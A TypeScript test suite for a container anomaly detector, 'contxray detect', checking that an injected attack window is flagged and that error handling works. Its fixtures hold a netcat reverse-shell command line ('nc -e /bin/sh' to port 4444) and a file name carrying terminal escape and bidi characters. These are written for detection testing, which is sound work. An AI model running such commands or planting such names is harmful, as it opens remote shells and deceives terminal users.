/**
 * `contxray detect` end to end on small real captures (fixture writer → DuckDB → features → forest):
 * a baseline of a web server and a worker; a capture with a reverse shell, a port scan and a new
 * syscall injected into one window of `web`; a second normal recording; and the bad inputs.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeCaptureFromRows } from '../support/fixture.js';
import { cli, tempDir, writeScenario } from '../helpers/captures.js';
import { workloadRows, writeWorkload } from '../helpers/detect-workload.js';

const T = 1_764_400_000_000_000_000n;
const HOUR = 3_600_000_000_000n;
const { dir, cleanup } = tempDir('contxray-detect-');
const f = (name: string) => join(dir, name);
const ATTACK_START = '2025-11-29T09:08:40';

before(async () => {
  await writeWorkload(f('base.arrow'), { startNs: T, seconds: 300, seed: 1 });
  await writeWorkload(f('normal.arrow'), { startNs: T + HOUR, seconds: 200, seed: 2 });
  const rows = workloadRows({ startNs: T + 2n * HOUR, seconds: 200, seed: 3, attackWindow: 12 });
  // a hostile program name in the attack window: must reach the terminal escaped
  rows.push({ kind: 'exec', ts: T + 2n * HOUR + 124_000_000_000n, cgroup_id: 8101n, pid: 7777, tid: 7777, comm: 'x', ppid: 1, uid: 0, filename: '/tmp/\x1b]0;pwned\x07\u202eexe', argv: ['x'], truncated: false });
  await writeCaptureFromRows(f('attack.arrow'), { host: { hostname: 'detect-host' }, startedAtNs: T + 2n * HOUR, rows });
  await writeWorkload(f('arm.arrow'), { startNs: T, seconds: 100, seed: 4 });
  const armRows = workloadRows({ startNs: T, seconds: 100, seed: 4 });
  await writeCaptureFromRows(f('arm.arrow'), { host: { hostname: 'arm-host', arch: 'aarch64' }, startedAtNs: T, rows: armRows.filter((r) => r.kind !== 'syscall') });
  await writeScenario(f('other.arrow'));
  await writeCaptureFromRows(f('empty.arrow'), { rows: [] });
});
after(cleanup);

interface Row {
  container: string;
  window_start: string;
  score: number;
  threshold: number;
  anomalous: boolean;
  reasons: Array<{ feature: string; text: string; contribution: number }>;
}

function assertOneLine(r: ReturnType<typeof cli>, code: number, pattern: RegExp) {
  assert.equal(r.status, code, r.stderr);
  // the capture reader's own warnings (a recovered empty file) may come first
  const lines = r.stderr.trim().split('\n').filter((l) => !l.startsWith('contxray: warning:'));
  assert.equal(lines.length, 1, r.stderr);
  assert.match(lines[0]!, pattern);
  assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
}

test('attack capture: the injected window of web is flagged, its top reason the reverse shell; exit 1', () => {
  const r = cli(['detect', f('attack.arrow'), '--baseline', f('base.arrow'), '-f', 'json']);
  assert.equal(r.status, 1, r.stderr);
  const rows = JSON.parse(r.stdout) as Row[];
  assert.equal(rows.length, 40);
  const flagged = rows.filter((x) => x.anomalous);
  assert.deepEqual(flagged.map((x) => [x.container, x.window_start.slice(0, 19)]), [['web', ATTACK_START]]);
  const top = flagged[0]!.reasons;
  // the ptrace of the attack fires the risky-syscall rule, reported first and as a rule
  assert.equal(top[0]!.feature, 'rule:new_risky_syscall');
  assert.match(top[0]!.text, /^rule: risky syscall never seen in baseline: ptrace called 12 times/);
  // then the other rules the window fires: the port scan's burst of new destinations, the new program
  assert.deepEqual(top.slice(0, 3).map((x) => x.feature), ['rule:new_risky_syscall', 'rule:new_destination_burst', 'rule:new_program']);
  assert.match(top[1]!.text, /^rule: connected to \d+ destinations never seen in baseline \(\d hosts?\)/);
  assert.match(top[2]!.text, /^rule: program never run in baseline: \/bin\/nc with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
  // the forest's own reasons follow, the novelty facts first, minus the new programs the rule named
  assert.equal(top[3]!.feature, 'new_syscalls');
  assert.ok(!top.some((x) => x.feature === 'new_programs'), 'the rule already named the new program');
  const texts = top.map((x) => x.text).join('\n');
  assert.match(texts, /ptrace called 12 times/);
  assert.match(texts, /never seen in baseline/);
  assert.match(texts, /10\.0\.0\.5 \(port 4444\)/);
  for (const x of rows) assert.ok(x.score > 0 && x.score < 1);
});

test('table: only anomalous windows, captured strings escaped (no raw ESC/bidi on the terminal)', () => {
  const r = cli(['detect', f('attack.arrow'), '--baseline', f('base.arrow')]);
  assert.equal(r.status, 1);
  assert.match(r.stdout, /ANOMALOUS/);
  assert.doesNotMatch(r.stdout, /normal/);
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(r.stdout, /[\x1b\x07\u202e]/);
  assert.match(r.stdout, /\\x1b\]0;pwned\\x07\\u202eexe/);
  assert.match(r.stderr, /1 of 40 window\(s\) anomalous in web/);
});

test('a second normal recording of the same workload: nothing flagged, exit 0', () => {
  const r = cli(['detect', f('normal.arrow'), '--baseline', f('base.arrow'), '-f', 'ndjson']);
  assert.equal(r.status, 0, r.stderr);
  const rows = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Row);
  assert.equal(rows.length, 40);
  assert.equal(rows.filter((x) => x.anomalous).length, 0);
});

test('--save-model then --model scores exactly as --baseline; the file is 0600', () => {
  const model = f('model.json');
  const s = cli(['detect', '--baseline', f('base.arrow'), '--save-model', model]);
  assert.equal(s.status, 0, s.stderr);
  assert.equal(statSync(model).mode & 0o777, 0o600);
  const a = cli(['detect', f('attack.arrow'), '--model', model, '-f', 'json']);
  const b = cli(['detect', f('attack.arrow'), '--baseline', f('base.arrow'), '-f', 'json']);
  assert.equal(a.status, 1);
  assert.deepEqual(JSON.parse(a.stdout), JSON.parse(b.stdout));
  const c = cli(['detect', f('attack.arrow'), '--model', model, '-c', 'worker', '-f', 'json']);
  assert.equal(c.status, 0, c.stderr);
  assert.ok((JSON.parse(c.stdout) as Row[]).every((x) => x.container === 'worker'));
});

test('bad model files: another version, corrupt trees, not a model → one line, exit 3', () => {
  const model = f('model2.json');
  assert.equal(cli(['detect', '--baseline', f('base.arrow'), '--save-model', model]).status, 0);
  const j = JSON.parse(readFileSync(model, 'utf8'));
  writeFileSync(f('v1.json'), JSON.stringify({ ...j, version: 1 }));
  assertOneLine(cli(['detect', f('attack.arrow'), '--model', f('v1.json')]), 3, /model format version 1, this contxray reads version 2/);
  const left = Buffer.from(j.groups[0].forest.left, 'base64');
  left.writeInt32LE(0, 0); // root's left child = itself: would loop forever
  j.groups[0].forest.left = left.toString('base64');
  writeFileSync(f('loop.json'), JSON.stringify(j));
  assertOneLine(cli(['detect', f('attack.arrow'), '--model', f('loop.json')]), 3, /children out of order/);
  writeFileSync(f('junk.json'), '{"format":"x"}');
  assertOneLine(cli(['detect', f('attack.arrow'), '--model', f('junk.json')]), 3, /not a contxray detect model/);
});

test('bad input: baseline of another arch, no baseline for a container, empty capture, usage', () => {
  assertOneLine(cli(['detect', f('attack.arrow'), '--baseline', f('arm.arrow')]), 3, /recorded on x86_64, the baseline on aarch64/);
  assertOneLine(cli(['detect', f('other.arrow'), '--baseline', f('base.arrow'), '-c', 'client']), 3, /no baseline for container client \(matched by name, then image; the baseline has web, worker\)/);
  assertOneLine(cli(['detect', f('empty.arrow'), '--baseline', f('base.arrow')]), 3, /no container activity to score|no complete batch/);
  assertOneLine(cli(['detect', f('attack.arrow'), '--baseline', f('empty.arrow')]), 3, /baseline: no container activity|no complete batch/);
  assertOneLine(cli(['detect']), 2, /nothing to do/);
  assertOneLine(cli(['detect', f('attack.arrow'), '--baseline', f('base.arrow'), '--model', 'x.json']), 2, /not both/);
  assertOneLine(cli(['detect', f('attack.arrow'), '--window', '10x']), 2, /not a duration/);
});

test('no baseline: the attack window stands out from the rest of the same capture', () => {
  const r = cli(['detect', f('attack.arrow'), '-f', 'json']);
  assert.equal(r.status, 1, r.stderr);
  const flagged = (JSON.parse(r.stdout) as Row[]).filter((x) => x.anomalous);
  assert.ok(flagged.some((x) => x.container === 'web' && x.window_start.startsWith(ATTACK_START)), JSON.stringify(flagged.map((x) => [x.container, x.window_start])));
  assert.ok(flagged.length <= 3, `${flagged.length} flagged`);
});
